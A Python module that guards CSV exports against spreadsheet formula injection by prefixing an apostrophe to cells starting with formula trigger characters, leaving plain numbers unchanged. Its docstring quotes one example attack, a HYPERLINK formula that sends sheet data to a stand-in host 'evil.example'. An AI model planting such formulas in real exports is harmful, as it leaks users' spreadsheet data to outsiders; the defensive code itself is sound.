"""CSV for spreadsheets: cells a spreadsheet would run as a formula are written as text.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with = + - @, a tab or a
carriage return, quoted or not ("CSV injection", OWASP): a statement such as
=HYPERLINK("http://evil.example/?"&A1,"click") in a public export becomes a live link that
sends the sheet's data away. Such a cell gets a leading apostrophe (OWASP's advice: the
spreadsheet shows the text, the apostrophe marks it as text). Numbers are not formulas:
Python numbers, and text that is a plain number such as -0.693147, are written unchanged,
so a log score stays a number. Every CSV export writes through ``writer``.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\Z", re.ASCII)


def safe_cell(value: Any) -> Any:
    """``value``, or as text a spreadsheet will not evaluate."""
    if (isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)
            and not _PLAIN_NUMBER.match(value)):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose rows pass through ``safe_cell``."""

    def __init__(self, out: Any, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(cell) for cell in row])


def writer(out: Any, **options: Any) -> SafeWriter:
    return SafeWriter(out, **options)
